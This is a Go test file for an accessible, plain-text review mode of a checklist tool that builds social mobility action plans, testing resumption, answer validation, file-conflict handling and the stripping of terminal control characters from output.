package accessible

import (
	"bytes"
	"errors"
	"flag"
	"io"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode"

	"github.com/rogpeppe/go-internal/txtar"
	"github.com/socialmobility/ladder/checklist"
	"github.com/socialmobility/ladder/plans"
	"github.com/socialmobility/ladder/workforce"
)

var update = flag.Bool("update", false, "rewrite the golden plan in testdata")

// today is fixed so that relative due dates (2w, 3m) and the plan's date
// give the same file on every run.
var today = plans.Date{Year: 2027, Month: time.January, Day: 15}

// runReview runs the accessible review over answers and returns what it
// printed. The output must be plain text whatever happened.
func runReview(t *testing.T, opts Options, answers io.Reader) (string, error) {
	t.Helper()
	var out bytes.Buffer
	if opts.Today.IsZero() {
		opts.Today = today
	}
	opts.In, opts.Out = answers, &out
	err := Run(opts)
	assertPlain(t, out.String())
	return out.String(), err
}

// runReviewOK is runReview for a review that must end without an error.
func runReviewOK(t *testing.T, opts Options, answers io.Reader) string {
	t.Helper()
	out, err := runReview(t, opts, answers)
	if err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	return out
}

// assertPlain fails if the output holds anything but printable text and
// newlines: no escape sequences, carriage returns, bells or tabs.
func assertPlain(t *testing.T, out string) {
	t.Helper()
	if i := strings.IndexByte(out, 0x1b); i >= 0 {
		t.Fatalf("output has an escape byte at %d: %q", i, out[max(0, i-40):min(len(out), i+40)])
	}
	for i, r := range out {
		if r != '\n' && unicode.IsControl(r) {
			t.Fatalf("output has control character %U at %d: %q", r, i, out[max(0, i-40):min(len(out), i+40)])
		}
	}
}

func readLines(t *testing.T, path string) []string {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return strings.Split(strings.TrimSuffix(string(data), "\n"), "\n")
}

func linesReader(lines []string) io.Reader {
	if len(lines) == 0 {
		return strings.NewReader("")
	}
	return strings.NewReader(strings.Join(lines, "\n") + "\n")
}

func TestWanted(t *testing.T) {
	env := func(kv ...string) func(string) string {
		return func(k string) string {
			for i := 0; i+1 < len(kv); i += 2 {
				if kv[i] == k {
					return kv[i+1]
				}
			}
			return ""
		}
	}
	for _, tc := range []struct {
		name   string
		flag   bool
		getenv func(string) string
		want   bool
	}{
		{"nothing", false, env("TERM", "xterm-256color"), false},
		{"flag", true, env("TERM", "xterm-256color"), true},
		{"ACCESSIBLE=1", false, env("ACCESSIBLE", "1"), true},
		{"ACCESSIBLE=yes", false, env("ACCESSIBLE", "yes"), true},
		{"ACCESSIBLE=0 is still set", false, env("ACCESSIBLE", "0"), true},
		{"ACCESSIBLE empty", false, env("ACCESSIBLE", ""), false},
		{"TERM=dumb", false, env("TERM", "dumb"), true},
		{"TERM=dumber", false, env("TERM", "dumber"), false},
		{"no TERM", false, env(), false},
	} {
		if got := Wanted(tc.flag, tc.getenv); got != tc.want {
			t.Errorf("%s: Wanted = %v, want %v", tc.name, got, tc.want)
		}
	}
	t.Setenv("ACCESSIBLE", "")
	t.Setenv("TERM", "dumb")
	if !Wanted(false, nil) {
		t.Errorf("Wanted(false, nil) with TERM=dumb in the environment = false")
	}
}

// wantItem is what the full-review answers give one item.
type wantItem struct {
	rating, action, owner, due string
	status                     plans.Status
	notes                      string
}

var fullReviewItems = map[string]wantItem{
	"lc-vision":                     {"red", "Write a one-page vision: why progression matters", "Ana", "2027-03-31", "todo", "Start from the board's values"},
	"lc-leadership":                 {"amber", "Run a manager workshop on talking about background", "李雷", "2027-03-31", "doing", ""},
	"lc-educate-leaders":            {"red", "Present two case studies to the senior team", "Björn", "2027-03-31", "todo", ""},
	"lc-culture":                    {"green", "", "", "", "todo", "We already run culture circles"},
	"wf-business-as-usual":          {"amber", "Check every team holds monthly 1:1s", "Ana", "2027-01-29", "todo", ""},
	"wf-interventions":              {"red", "Name the accelerator roles and advertise them to all", "Björn", "2027-04-15", "todo", ""},
	"en-data-collect":               {"green", "", "", "", "todo", ""},
	"en-data-training":              {"amber", "Add socio-economic background to the training records", "Ana", "2027-06-30", "todo", ""},
	"en-data-progression":           {"red", "Compare promotion rates by background", "Ana", "2027-09-30", "todo", ""},
	"en-data-performance":           {"red", "", "", "", "todo", ""},
	"en-data-pay-grades":            {"amber", "", "", "", "todo", ""},
	"en-data-pay-reward":            {"red", "Review pay and reward decisions against the data", "Zoë Østergaard", "2028-01-15", "done", ""},
	"en-data-share":                 {"amber", "Publish a short data summary to all staff", "Björn", "2027-12-01", "todo", ""},
	"en-policy-job-skills":          {"green", "", "", "", "todo", ""},
	"en-policy-incremental":         {"amber", "", "", "", "todo", ""},
	"en-policy-pathways":            {"red", "Draw career pathways for the front line", "李雷", "2027-07-15", "todo", "Start with the kitchen team"},
	"en-policy-communicate":         {"amber", "", "", "", "todo", ""},
	"en-policy-flexible":            {"green", "", "", "", "todo", ""},
	"en-policy-succession":          {"red", "Write a fair succession policy", "Ana", "2027-01-25", "todo", ""},
	"en-policy-anti-discrimination": {"amber", "", "", "", "todo", ""},
	"en-policy-manager-kpis":        {"red", "Set one inclusion KPI for each manager", "Zoë Østergaard", "2027-04-30", "doing", ""},
}

// checkFullReview checks, field by field, the plan the full-review answers
// give.
func checkFullReview(t *testing.T, path string) {
	t.Helper()
	p := onDiskPlan(t, path)
	if p.Organisation != "Acme Café Ltd" || p.Title != "Spring review: progression" || p.Facilitator != "Zoë Østergaard" ||
		p.Date != today || !slices.Equal(p.Participants, []string{"Ana", "Björn", "李雷"}) || p.ChecklistRef.ID != checklist.DefaultID {
		t.Errorf("set-up: got %q %q %q %v %q %q", p.Organisation, p.Title, p.Facilitator, p.Date, p.Participants, p.ChecklistRef.ID)
	}
	if n := p.Checklist.Len(); n != len(fullReviewItems) {
		t.Fatalf("the checklist has %d items, the test expects %d", n, len(fullReviewItems))
	}
	for id, want := range fullReviewItems {
		r := p.Response(id)
		got := wantItem{r.Rating, r.Action, r.Owner, r.Due.String(), r.Status, r.Notes}
		if got != want {
			t.Errorf("%s:\n got %q\nwant %q", id, got, want)
		}
	}
	if a := p.Answer("counts"); !a.Due.IsZero() {
		t.Errorf("counts due = %v, want none", a.Due)
	}
	qw := p.Answer("quick-wins")
	if want := []string{"Write a one-page vision: why progression matters", "Present two case studies to the senior team", "Appoint a senior social mobility sponsor"}; !slices.Equal(qw.List, want) || qw.Due.String() != "2027-02-15" {
		t.Errorf("quick wins = %q due %v, want %q due 2027-02-15", qw.List, qw.Due, want)
	}
	sw := p.Answer("speak-with")
	if sw.ByArea["leadership-culture"] != "The managing director" || sw.ByArea["workforce"] != "HR lead" ||
		sw.ByArea["enablers"] != "Finance and payroll" || sw.Due.String() != "2027-02-28" {
		t.Errorf("speak with = %q due %v", sw.ByArea, sw.Due)
	}
	if dm := p.Answer("decision-makers"); dm.Text != "The board" || !dm.Due.IsZero() {
		t.Errorf("decision makers = %q due %v", dm.Text, dm.Due)
	}
	pp := p.Answer("project-plan")
	if pp.Due.String() != "2027-12-31" || len(pp.Steps) != 13 {
		t.Fatalf("project plan: %d steps due %v, want 13 due 2027-12-31", len(pp.Steps), pp.Due)
	}
	last := pp.Steps[12]
	if last != (plans.Step{ID: 13, Text: "Agree the budget", Owner: "Zoë Østergaard", Due: plans.Date{Year: 2027, Month: 2, Day: 14}, Status: plans.StatusTodo}) {
		t.Errorf("added step = %+v", last)
	}
	for i, s := range pp.Steps[:12] {
		r := p.Response(s.From)
		if r == nil || s.Text != r.Action || s.Owner != r.Owner || s.Due != r.Due || s.Status != r.Status {
			t.Errorf("step %d does not match the action it came from: %+v", i+1, s)
		}
		if i > 0 && s.Due.Before(pp.Steps[i-1].Due) {
			t.Errorf("step %d is out of due-date order", i+1)
		}
	}
}

// TestFullReview pipes a whole review, from set-up to the last follow-up,
// and checks the plan it leaves: every answer field by field, and the
// whole file against a golden (which the command-line script
// accessible_review.txtar checks too). That the screens make the same plan
// from the same answers is tui's TestScreensAndAccessibleMakeTheSamePlan.
func TestFullReview(t *testing.T) {
	out, path := fullReview(t)
	checkFullReview(t, path)
	compareGolden(t, path, "testdata/full-review.golden.yaml")

	checkOutput(t, out,
		"There is no plan at "+path+" yet, so this is a new review.\nA new review. First, a few details for the plan.\n",
		"Created the plan "+path+", with 21 items to rate.\n",
		"Area: Leadership & Culture\nItem 1 of 4 in this area, 1 of 21 in all\nRecommendation: Develop a clear vision for your D&I strategy\nQuestions to consider:\n- Do you build progression into your D&I strategy?\n",
		"1) Red: Nothing/Not something you currently do\n2) Amber: Do something in this space but limited\n3) Green: Actively do this\n",
		"Type 1, 2 or 3 (or r, a or g), or press Enter to skip it and leave it unrated.\nRating: r\nRated Red.\n",
		"Group: Data\n",
		"Due date: 31/03/2027\nUnderstood as Wednesday 31 March 2027.\n",
		"Due date: 2w\nUnderstood as Friday 29 January 2027.\n",
		"End of Leadership & Culture: Red 2, Amber 1, Green 1, Unrated 0\n",
		"End of Workforce: Red 1, Amber 1, Green 0, Unrated 0\n",
		"End of Enablers: Red 6, Amber 6, Green 3, Unrated 0\n",
		"Question 1 of 5: How many did you get in each area; red/amber/green?\n",
		"Question 2 of 5: What are your quick wins?\n",
		"Question 3 of 5: Who do you need to speak with in your organisation about each area?\n",
		// Each area's answer is asked by the area's name once, with where it
		// is among them, not "For Workforce:" and then "Workforce:" again.
		"\nArea 2 of 3. Press Enter to leave it empty.\nWorkforce: ",
		"Question 4 of 5: Who are the decision makers to help you make this change?\n",
		"Question 5 of 5: What will your project plan look like?\n",
		"1. Write a fair succession policy; owner Ana; due Monday 25 January 2027; todo\n",
		"All areas: Red 9, Amber 8, Green 4, Unrated 0\n",
		"The plan is saved in "+path+".\n",
		// A temp folder is in no git work tree: git add needs git init.
		"This folder is not in git yet. To keep the plan in git, run these 3 commands:\ngit init\ngit add -- "+path+"\n",
	)
	// Each item is printed once.
	if n := strings.Count(out, "Recommendation: Develop a clear vision"); n != 1 {
		t.Errorf("item 1 printed %d times", n)
	}
	// The counts question is never asked: it goes straight to its due date.
	counts := out[strings.Index(out, "Question 1 of 5"):strings.Index(out, "Question 2 of 5")]
	if strings.Count(counts, "Due date: ") != 1 || strings.Contains(counts, "Answer: ") {
		t.Errorf("the counts question asked something besides its due date:\n%s", counts)
	}
}

func compareGolden(t *testing.T, path, golden string) {
	t.Helper()
	got, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if *update {
		if err := os.WriteFile(golden, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(golden)
	if err != nil {
		t.Fatalf("%v (run go test -update to write it)", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s differs from %s (run go test -update if the change is intended)\n got:\n%s", path, golden, got)
	}
}

// itemAnswers is how many answer lines the item starting at lines[0]
// takes in the full-review fixture: a rating, then (unless skipped) the
// action, owner and due date, the status if there is an action, and notes.
func itemAnswers(lines []string) int {
	if lines[0] == "" {
		return 1
	}
	if lines[1] == "" {
		return 5
	}
	return 6
}

// setupAnswers is the number of set-up lines at the top of the fixture.
const setupAnswers = 5

// TestInputEndsAndResumes ends the input after item 7, checks what was
// saved and what was said, then feeds the rest to a second run, which
// carries on at item 8 and leaves the same plan as one uninterrupted run.
func TestInputEndsAndResumes(t *testing.T) {
	lines := readLines(t, "testdata/full-review.answers")
	cut := setupAnswers
	for range 7 {
		cut += itemAnswers(lines[cut:])
	}
	path := filepath.Join(t.TempDir(), "acme.yaml")

	out, err := runReview(t, Options{PlanPath: path}, linesReader(lines[:cut]))
	if err != nil {
		t.Fatalf("a run whose input ends should succeed, got %v\n%s", err, out)
	}
	if want := "\nInput ended. Your answers so far are saved in " + path + ".\nTo carry on where you left off, run: ladder review --accessible " + path + "\n"; !strings.HasSuffix(out, want) {
		t.Errorf("output ends\n%s\nwant it to end\n%s", out[max(0, len(out)-300):], want)
	}
	p := onDiskPlan(t, path)
	if got := p.FirstUnrated(); got != 7 {
		t.Errorf("after 7 items, the first unrated is %d, want 7", got)
	}
	if r := p.Response("wf-interventions"); r.Rating != "red" || r.Due.String() != "2027-04-15" {
		t.Errorf("item 6 was not saved: %+v", r)
	}

	out = runReviewOK(t, Options{PlanPath: path}, linesReader(lines[cut:]))
	if !strings.Contains(out, "Carrying on at item 8 of 21, the first one not rated yet.\nType help at any question for the commands: back, item N (any item, rated or not, by its number in all or in its area), board, advice, flag, data, glossary, quit.\n\nArea: Enablers\nItem 2 of 15 in this area, 8 of 21 in all\n") {
		t.Errorf("the second run did not resume at item 8:\n%s", out[:min(len(out), 600)])
	}
	if strings.Contains(out, ", 7 of 21 in all") {
		t.Errorf("the second run asked item 7 again")
	}
	checkFullReview(t, path)
	compareGolden(t, path, "testdata/full-review.golden.yaml")
}

// TestInputEndsInsideAnItem keeps the answers given for an item whose
// questions were not all answered, and resumes after it (it is rated).
func TestInputEndsInsideAnItem(t *testing.T) {
	lines := readLines(t, "testdata/full-review.answers")
	path := filepath.Join(t.TempDir(), "acme.yaml")
	// Set-up, then item 1's rating and action; the input ends at its owner.
	out, err := runReview(t, Options{PlanPath: path}, linesReader(lines[:setupAnswers+2]))
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out, "Owner: \n\nInput ended.") {
		t.Errorf("want the input to end at the owner question:\n%s", out[max(0, len(out)-400):])
	}
	p := onDiskPlan(t, path)
	if r := p.Response("lc-vision"); r.Rating != "red" || r.Action != "Write a one-page vision: why progression matters" || r.Owner != "" {
		t.Errorf("lc-vision = %+v", r)
	}
	out, _ = runReview(t, Options{PlanPath: path}, strings.NewReader(""))
	if !strings.Contains(out, "Carrying on at item 2 of 21") {
		t.Errorf("did not resume at item 2:\n%s", out)
	}
}

// TestInputEndsDuringSetUp writes nothing when no plan was made yet.
func TestInputEndsDuringSetUp(t *testing.T) {
	path := filepath.Join(t.TempDir(), "acme.yaml")
	out, err := runReview(t, Options{PlanPath: path}, strings.NewReader("Acme\n"))
	if err != nil {
		t.Fatal(err)
	}
	if !strings.HasSuffix(out, "Input ended before a plan was created, so nothing was saved.\n") {
		t.Errorf("output:\n%s", out)
	}
	if _, err := os.Stat(path); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("a plan was written: %v", err)
	}
}

// TestBadAnswersAskedAgain gives impossible dates, unknown ratings and an
// empty organisation; each is explained and asked again, and the answer
// finally given is saved.
func TestBadAnswersAskedAgain(t *testing.T) {
	path := filepath.Join(t.TempDir(), "acme.yaml")
	answers := []string{
		"", "Acme", "Review", "", "", "",
		"x", "4", "r",
		"Act", "Me",
		"31/02/2027", "2027-02-30", "next tuesdy", "31 Foo 2027", "99999w", "2027-02-28",
		"finished", "3",
	}
	out, err := runReview(t, Options{PlanPath: path}, linesReader(answers))
	if err != nil {
		t.Fatal(err)
	}
	checkOutput(t, out,
		"Organisation: \nThe organisation is needed: type it, or type quit to stop.\nOrganisation: Acme\n",
		`Rating: x`+"\n"+`"x" is not one of the choices. Type 1, 2 or 3 (or r, a or g), or press Enter to skip it and leave it unrated.`+"\n",
		`"4" is not one of the choices.`,
		`Due date: 31/02/2027`+"\n"+`Not a date I can use: "31/02/2027" is not a real date. Please try again.`+"\nDue date: 2027-02-30\n",
		`Not a date I can use: "2027-02-30" is not a real date.`,
		`Not a date I can use: "next tuesdy" is not a date: try 31/03/2027, 5 Feb, 2w or next Friday.`,
		`unknown month "Foo"`,
		`"99999w" is too far ahead`,
		"Due date: 2027-02-28\nUnderstood as Sunday 28 February 2027.\n",
		`"finished" is not one of the choices. Type 1, 2 or 3; Enter keeps: todo.`,
	)
	p := onDiskPlan(t, path)
	if r := p.Response("lc-vision"); r.Rating != "red" || r.Owner != "Me" || r.Due.String() != "2027-02-28" || r.Status != plans.StatusDone {
		t.Errorf("lc-vision = %+v", r)
	}
}

// newPlan writes a plan for the built-in checklist, changed by edit.
func newPlan(t *testing.T, path string, edit func(p *plans.Plan)) {
	t.Helper()
	c, _ := checklist.Builtin(checklist.DefaultID)
	p := plans.New(c, "Acme", "Spring", today)
	if edit != nil {
		edit(p)
	}
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := createPlan(path, p); err != nil {
		t.Fatal(err)
	}
}

// TestEnterKeepsDashClears resumes a plan whose item already has answers:
// Enter keeps each one (and says what it keeps), "-" clears one.
func TestEnterKeepsDashClears(t *testing.T) {
	path := filepath.Join(t.TempDir(), "acme.yaml")
	newPlan(t, path, func(p *plans.Plan) {
		*p.Response("lc-leadership") = plans.Response{Rating: "amber", Action: "Old action", Owner: "Old owner",
			Due: plans.Date{Year: 2027, Month: 5, Day: 1}, Status: plans.StatusDoing, Notes: "line one\nline two"}
	})
	// Item 1: skip. Item 2: keep the rating, keep the action, clear the
	// owner, keep the due date, status and notes.
	out, err := runReview(t, Options{PlanPath: path}, linesReader([]string{"", "", "", "-", "", "", ""}))
	if err != nil {
		t.Fatal(err)
	}
	checkOutput(t, out,
		"Rating: \nSkipped: left unrated.\n",
		// Item 1 said the scale in full; item 2 asks in one line, with
		// what Enter keeps.
		"Rate it: 1 for Red, 2 for Amber or 3 for Green (or r, a or g); Enter keeps: Amber; type a dash (-) to clear the rating. Type a question mark (?) to hear the descriptions again.\nRating: \nKept Amber.\n",
		"What will you do about it? Enter keeps: Old action. Type a dash (-) to clear it.\nAction: \n",
		"Who will do it? Enter keeps: Old owner. Type a dash (-) to clear it.\nOwner: -\n",
		"Enter keeps: Saturday 1 May 2027. Type a dash (-) to clear it.\nDue date: \n",
		"Enter keeps: doing.\nStatus: \n",
		"Anything else to note? One line only. Enter keeps: line one / line two. Type a dash (-) to clear it.\nNotes: \n",
	)
	p := onDiskPlan(t, path)
	if r := p.Response("lc-vision"); r.Rated() {
		t.Errorf("the skipped item was rated %q", r.Rating)
	}
	want := plans.Response{Rating: "amber", Action: "Old action", Due: plans.Date{Year: 2027, Month: 5, Day: 1}, Status: plans.StatusDoing, Notes: "line one\nline two"}
	if r := p.Response("lc-leadership"); *r != want {
		t.Errorf("lc-leadership = %+v, want %+v", *r, want)
	}
}

// TestEverythingAnswered resumes a finished plan: it goes straight to the
// next steps, and pressing Enter throughout changes nothing on disk.
func TestEverythingAnswered(t *testing.T) {
	path := filepath.Join(t.TempDir(), "acme.yaml")
	golden, err := os.ReadFile("testdata/full-review.golden.yaml")
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, golden, 0o644); err != nil {
		t.Fatal(err)
	}
	old := time.Date(2001, 2, 3, 4, 5, 6, 0, time.UTC)
	if err := os.Chtimes(path, old, old); err != nil {
		t.Fatal(err)
	}
	out, err := runReview(t, Options{PlanPath: path}, linesReader(make([]string, 12)))
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out, "(21 of 21 rated).\nEvery item is rated, so on to the next steps.\n") {
		t.Errorf("did not go straight to the next steps:\n%s", out[:min(400, len(out))])
	}
	checkOutput(t, out,
		"So far: Write a one-page vision: why progression matters; Present two case studies to the senior team; Appoint a senior social mobility sponsor.\n",
		"Enter keeps what you have so far",
		"Leadership & Culture: \n",
		"Enter keeps: The board. Type a dash (-) to clear it.\n",
		"13. Agree the budget; owner Zoë Østergaard; due Sunday 14 February 2027; todo\n",
		"The plan is saved in "+path+".\n",
	)
	if strings.Contains(out, "Input ended") {
		t.Errorf("12 empty answers should finish the review:\n%s", out)
	}
	got, _ := os.ReadFile(path)
	info, _ := os.Stat(path)
	if !bytes.Equal(got, golden) || !info.ModTime().Equal(old) {
		t.Errorf("pressing Enter everywhere changed the plan (modified %v)", info.ModTime())
	}
}

// lineByLine hands out one line per Read, and calls before(n) before it
// hands out line n, so a test can act between two answers.
type lineByLine struct {
	lines  []string
	n      int
	before func(n int)
}

func (r *lineByLine) Read(b []byte) (int, error) {
	if r.n >= len(r.lines) {
		return 0, io.EOF
	}
	if r.before != nil {
		r.before(r.n)
	}
	r.n++
	return copy(b, r.lines[r.n-1]+"\n"), nil
}

// TestChangedOnDiskSavesACopy changes the plan file behind the review's
// back: the other person's file is left as they wrote it, and the review
// carries on in a copy beside it that holds every answer.
func TestChangedOnDiskSavesACopy(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "acme.yaml")
	newPlan(t, path, nil)
	in, theirs := changedAfterTheRating(t, path)
	out, err := runReview(t, Options{PlanPath: path}, in)
	if err != nil {
		t.Fatal(err)
	}
	copyPath := filepath.Join(dir, "acme.copy-1.yaml")
	checkOutput(t, out,
		path+" was changed by someone else while you were answering, so it was left as it is.\n",
		"Your answers are saved in a copy beside it, "+copyPath+", and the review carries on there.\n",
		"Your answers so far are saved in "+copyPath+".\n",
	)
	if got := mustRead(t, path); !bytes.Equal(got, theirs) {
		t.Errorf("the changed file was overwritten")
	}
	p := onDiskPlan(t, copyPath)
	if r := p.Response("lc-vision"); r.Rating != "red" || r.Action != "Act" || r.Owner != "Me" {
		t.Errorf("the copy has lc-vision = %+v", r)
	}
}

// changedAfterTheRating is answers that rate the plan at path's first
// item Red with an action "Act" owned by "Me", then end; someone else
// writes theirs (the organisation renamed "Acme Ltd") after the rating
// was saved, before the action is read.
func changedAfterTheRating(t *testing.T, path string) (in *lineByLine, theirs []byte) {
	t.Helper()
	theirs = []byte(strings.Replace(string(mustRead(t, path)), "organisation: Acme", "organisation: Acme Ltd", 1))
	return &lineByLine{lines: []string{"r", "Act", "Me", "", "", ""}, before: func(n int) {
		if n == 1 {
			if err := os.WriteFile(path, theirs, 0o644); err != nil {
				t.Error(err)
			}
		}
	}}, theirs
}

func mustRead(t *testing.T, path string) []byte {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// A plan of someone's own that no longer loads (a typo made editing it
// by hand) was the only one in the folder: the prompts said "There are no
// plans in the folder yet" under the line saying it does not load, and
// began a new review as if there had never been one. They say that none
// of the folder's plans opens, and how to mend it before going on.
func TestOnlyABrokenPlanIsNotNoPlans(t *testing.T) {
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "ours.yaml"), []byte("schema: [\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	out, err := runReview(t, Options{Dir: dir}, linesReader([]string{"Acme", "Spring", "Sam", "Ana", "1"}))
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(out, "There are no plans in the folder") {
		t.Errorf("the prompts say there are no plans, with one there that does not load:\n%s", out)
	}
	checkOutput(t, out,
		"Not listed: "+filepath.Join(dir, "ours.yaml")+" does not load (",
		"No plan in the folder "+dir+" opens, so this is a new review. To mend one first, quit (ctrl+c) and run the ladder check command above.",
	)
}

// A plan's name mistyped on the command line: the prompts name the plan
// in that folder it was probably meant to be, and how to open it, before
// beginning a second one beside it.
func TestAMistypedPlanNameIsNamedRight(t *testing.T) {
	dir := t.TempDir()
	meant := filepath.Join(dir, "acme-spring.yaml")
	newPlan(t, meant, nil)
	out, _ := runReview(t, Options{PlanPath: filepath.Join(dir, "acme-sprng.yaml")}, linesReader(nil)) // input ends at the organisation
	checkOutput(t, out, "Did you mean "+meant+"? To open it, quit (ctrl+c) and run ladder review --accessible "+meant+".\n")
}

// TestChooseFromPlansFolder lists the plans folder newest first, with how
// far each got, reports one that does not load, and opens the one chosen.
func TestChooseFromPlansFolder(t *testing.T) {
	dir := t.TempDir()
	older, newer := filepath.Join(dir, "older.yaml"), filepath.Join(dir, "newer.yaml")
	newPlan(t, older, func(p *plans.Plan) { p.Organisation = "Older Ltd" })
	newPlan(t, newer, func(p *plans.Plan) {
		p.Organisation = "Newer Ltd"
		for _, e := range p.Checklist.Items()[:14] {
			p.Response(e.Item.ID).Rating = "green"
		}
	})
	if err := os.WriteFile(filepath.Join(dir, "broken.yaml"), []byte("schema: [\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	old := time.Now().Add(-time.Hour)
	if err := os.Chtimes(older, old, old); err != nil {
		t.Fatal(err)
	}

	out, err := runReview(t, Options{Dir: dir}, linesReader([]string{"9", "1"}))
	if err != nil {
		t.Fatal(err)
	}
	checkOutput(t, out,
		"Not listed: "+filepath.Join(dir, "broken.yaml")+" does not load (",
		"Plans in the folder "+dir+", newest first:\n1) Newer Ltd: Spring, 14 of 21 rated (newer.yaml)\n2) Older Ltd: Spring, 0 of 21 rated (older.yaml)\n3) Begin a new review\n",
		"\"9\" is not one of the choices. Type 1, 2 or 3, or press Enter to open 1.\nPlan: 1\n",
		"Carrying on at item 15 of 21",
		"Your answers so far are saved in "+newer+".",
	)

	// A new review from the list gets a file named after it.
	out, err = runReview(t, Options{Dir: dir}, linesReader([]string{"new", "Café Zoë", "Autumn review", "", "", ""}))
	if err != nil {
		t.Fatal(err)
	}
	want := filepath.Join(dir, "2027-01-15-cafe-zoe-autumn-review.yaml")
	if !strings.Contains(out, "Created the plan "+want+", with 21 items to rate.") {
		t.Errorf("output:\n%s", out)
	}
	if p, err := plans.LoadFile(want, nil); err != nil || p.Organisation != "Café Zoë" {
		t.Errorf("new plan: %v", err)
	}
}

// TestEmptyPlansFolderStartsANewReview needs no choice when there is
// nothing to resume; the folder is created for the new plan. It says, as
// the screens' first form does, what to do for someone whose plans are
// in another folder (ladder run in the wrong one would begin a new
// review where they meant to resume theirs).
func TestEmptyPlansFolderStartsANewReview(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "plans")
	out, err := runReview(t, Options{Dir: dir}, linesReader([]string{"Acme", "Spring", "Sam", "Ana", "1"}))
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out, "There are no plans in the folder "+dir+" yet, so this is a new review. Made a review before? Quit (ctrl+c) and run ladder review --accessible in the folder that holds yours.\n") {
		t.Errorf("output:\n%s", out)
	}
	p := onDiskPlan(t, filepath.Join(dir, "2027-01-15-acme-spring.yaml"))
	if p.Facilitator != "Sam" || !slices.Equal(p.Participants, []string{"Ana"}) {
		t.Errorf("plan = %+v", p)
	}
}

// TestPlanThatDoesNotLoad reports its problems with file:line:col and
// leaves it untouched.
func TestPlanThatDoesNotLoad(t *testing.T) {
	path := filepath.Join(t.TempDir(), "acme.yaml")
	newPlan(t, path, nil)
	bad := strings.Replace(string(mustRead(t, path)), "rating: unrated", "rating: purple", 1)
	if err := os.WriteFile(path, []byte(bad), 0o644); err != nil {
		t.Fatal(err)
	}
	out, err := runReview(t, Options{PlanPath: path}, strings.NewReader("r\n"))
	var fe *plans.FileError
	if !errors.As(err, &fe) || !strings.Contains(err.Error(), path+":") || !strings.Contains(err.Error(), "purple") {
		t.Fatalf("err = %v, want a file error naming %s", err, path)
	}
	if out != "" {
		t.Errorf("printed %q", out)
	}
	if string(mustRead(t, path)) != bad {
		t.Errorf("the plan was changed")
	}
}

// TestCustomChecklistSuggestions uses --checklist with a file whose areas
// carry "If all you do is..." suggestions: they are offered as quick wins,
// and the plan records the checklist file relative to itself.
func TestCustomChecklistSuggestions(t *testing.T) {
	dir := t.TempDir()
	cl := filepath.Join(dir, "ours.yaml")
	err := os.WriteFile(cl, []byte(`id: ours
title: Our checklist
version: "1"
scale:
  - {key: no, label: No}
  - {key: yes, label: Yes}
areas:
  - id: people
    title: People
    items:
      - id: p1
        title: Do you talk to people?
    if_all_you_do:
      - {text: Talk to one person a week, source: Us}
follow_ups:
  - id: wins
    kind: list
    question: What are your quick wins?
`), 0o644)
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(dir, "plans", "ours.yaml")
	answers := []string{"Acme", "Ours", "", "",
		"no", "Ask", "", "", "", "",
		"1,2", "", ""}
	out := runReviewOK(t, Options{PlanPath: path, Checklist: cl}, linesReader(answers))
	checkOutput(t, out,
		"Checklist: Our checklist.\n",
		"1) No\n2) Yes\nType 1 or 2 (or n or y)",
		"The actions written so far:\n1) Ask\nSuggested for People, if all you do is...\n2) Talk to one person a week\n",
	)
	p := onDiskPlan(t, path)
	if p.ChecklistRef.File != "../ours.yaml" || !slices.Equal(p.Answer("wins").List, []string{"Ask", "Talk to one person a week"}) {
		t.Errorf("plan: checklist file %q, wins %q", p.ChecklistRef.File, p.Answer("wins").List)
	}
}

// TestNothingButPlainText resumes a plan whose text holds escape
// sequences and control characters, typed in with arrow keys pressed:
// nothing of them reaches the output or the plan.
func TestNothingButPlainText(t *testing.T) {
	path := filepath.Join(t.TempDir(), "acme.yaml")
	newPlan(t, path, func(p *plans.Plan) {
		p.Organisation = "Acme\x1b[2J\x07 Evil\u202eCorp\u2066"
		p.Response("lc-vision").Action = "\x1b[31mRed\x1b[0m\ttext\r"
	})
	out, err := runReview(t, Options{PlanPath: path}, linesReader([]string{"r", "", "Ow\x1b[Aner\x1b[D", "\x1bOP2w"}))
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out, "Enter keeps: [31mRed[0m text. Type a dash (-) to clear it.") {
		t.Errorf("the action was not shown as plain text:\n%s", out)
	}
	// The heading shows the organisation's controls as pictures, as the
	// folder list and the screens do (safetext.Line).
	if !strings.Contains(out, "Review of Acme␛[2J␇ Evil�Corp�:") || strings.ContainsAny(out, "\u202e\u2066") {
		t.Errorf("the organisation's bidirectional overrides reached the output:\n%q", out[:min(len(out), 200)])
	}
	p := onDiskPlan(t, path)
	if r := p.Response("lc-vision"); r.Owner != "Owner" || r.Due.String() != "2027-01-29" {
		t.Errorf("typed answers were not cleaned of terminal keys: owner %q due %v", r.Owner, r.Due)
	}
}

func TestPlainWriter(t *testing.T) {
	var b bytes.Buffer
	in := "a\x1b[1mb\tc\r\n\x07d\u0085e\xffé👩‍💻\nEvil\u202eCorp\u2028\u2066x\u2069\n"
	n, err := plainWriter{&b}.Write([]byte(in))
	if err != nil || n != len(in) {
		t.Fatalf("Write = %d, %v", n, err)
	}
	if want := "a[1mb c\nde\uFFFDé👩‍💻\nEvilCorpx\n"; b.String() != want {
		t.Errorf("got %q, want %q", b.String(), want)
	}
}

